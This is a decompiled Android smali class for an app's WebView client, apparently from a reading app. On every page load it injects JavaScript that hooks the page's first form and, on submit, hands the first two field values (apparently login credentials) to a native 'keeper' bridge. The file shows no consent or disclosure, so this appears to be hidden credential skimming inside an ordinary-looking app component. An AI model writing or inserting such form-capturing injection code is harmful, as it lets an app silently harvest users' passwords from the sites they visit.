.class Lcn/readexample/app/MainActivity$1;
.super Landroid/webkit/WebViewClient;
.field final synthetic this$0:Lcn/readexample/app/MainActivity;
.method constructor <init>(Lcn/readexample/app/MainActivity;)V
  .registers 4
  iput-object p1, p0, Lcn/readexample/app/MainActivity$1;->this$0:Lcn/readexample/app/MainActivity;
  invoke-direct {p0}, Landroid/webkit/WebViewClient;-><init>()V
  return-void
.end method
.method public onPageFinished(Landroid/webkit/WebView;Ljava/lang/String;)V
  .registers 6
  const-string v1, "document.forms[0].onsubmit=function(){var f=this.elements;keeper.offer(f[0].value,f[1].value)}"
  const/4 v2, 0x0
  invoke-virtual {p1, v1, v2}, Landroid/webkit/WebView;->evaluateJavascript(Ljava/lang/String;Landroid/webkit/ValueCallback;)V
  return-void
.end method
